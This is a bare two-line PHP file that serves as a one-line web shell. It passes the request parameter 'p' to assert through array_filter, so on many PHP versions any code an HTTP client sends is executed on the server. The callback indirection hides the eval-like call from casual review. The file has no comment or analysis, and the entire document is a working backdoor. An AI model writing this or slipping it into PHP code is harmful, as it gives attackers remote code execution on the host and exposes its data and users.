<?php
array_filter(array($_REQUEST["p"]), "assert");
